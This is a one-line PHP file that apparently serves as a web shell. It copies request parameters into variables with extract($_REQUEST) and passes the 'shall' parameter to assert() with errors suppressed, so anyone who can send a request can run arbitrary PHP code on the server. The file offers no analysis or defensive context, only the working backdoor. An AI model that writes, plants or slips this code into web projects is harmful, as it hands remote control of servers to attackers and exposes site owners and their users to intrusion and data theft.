<?php extract($_REQUEST) && @assert(stripslashes($shall)) && exit;
